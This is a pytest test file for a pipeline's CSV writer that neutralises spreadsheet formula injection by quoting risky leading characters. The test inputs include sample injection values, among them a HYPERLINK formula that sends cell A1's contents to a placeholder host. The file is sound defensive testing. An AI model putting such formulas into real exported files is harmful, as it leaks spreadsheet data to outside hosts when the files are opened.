import ast
import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.io.files.csv_cells import as_written, cells_as_written, neutral, write_csv
from pipeline.io.legacy.columns import read_csv
from pipeline.io.results.scores_file import read_scores
from pipeline.io.tables.table_file import read_table

ROOT = Path(__file__).resolve().parents[4]
IDS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-a",
    "@SUM(A1)",
    "\tx",
    "'quoted",
    "''",
    "-5",
    "0017",
    "a=b",
    "plain",
    "1e5",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return "_" not in text


@given(st.text(max_size=12) | st.builds("{}{}".format, st.sampled_from([*FORMULA, "'", "''"]), st.text(max_size=8)))
def test_every_text_comes_back_and_none_begins_as_a_formula(text):
    written = neutral(text)
    assert as_written(written) == text
    assert not written.startswith(FORMULA) or is_number(written)


@pytest.mark.parametrize("value", [-1, -2.5, np.float32(-3), None, True])
def test_what_is_no_text_stays(value):
    assert neutral(value) is value


@pytest.mark.parametrize("text", ["-5", "+0.25", "-1e-3", "-.5", "12", "a=b", "ZTF18abc", "2026-01-05", ""])
def test_numbers_and_harmless_texts_stay(text):
    assert neutral(text) == text


def test_a_table_is_written_without_formulas_its_head_too_and_numbers_as_they_are():
    stream = io.StringIO()
    write_csv(stream, pd.DataFrame({"=id": IDS, "score": np.linspace(-1, 1, len(IDS))}))
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows[0] == ["'=id", "score"]
    assert [row[0] for row in rows[1:]] == [neutral(name) for name in IDS]
    assert [float(row[1]) for row in rows[1:]] == np.linspace(-1, 1, len(IDS)).tolist()


@pytest.mark.parametrize(
    "reader",
    [read_csv, read_scores, lambda path: read_table(path, texts=("candidate_id", "'=b"))],
    ids=["stamp sets", "scores", "tables"],
)
def test_ids_survive_a_file_that_we_write_and_read(reader, tmp_path):
    ids = [name for name in IDS if name == name.strip() and name != "1e5"]
    write_csv(tmp_path / "x.csv", pd.DataFrame({"candidate_id": ids, "score": 0.5, "=b": "-x"}))
    found = reader(tmp_path / "x.csv")
    assert found["candidate_id"].tolist() == ids
    assert found["=b"].tolist() == ["-x"] * len(ids)


def test_apostrophes_of_other_programs_stay():
    table = pd.DataFrame({"name": ["'Oumuamua", "it's", "'"]})
    assert cells_as_written(table)["name"].tolist() == ["'Oumuamua", "it's", "'"]


def test_csv_is_written_in_one_place():
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("pipeline", "models", "tasks", "commands")
        for path in (ROOT / folder).rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute) and node.attr == "to_csv"
    }
    assert found == {"pipeline/io/files/csv_cells.py"}
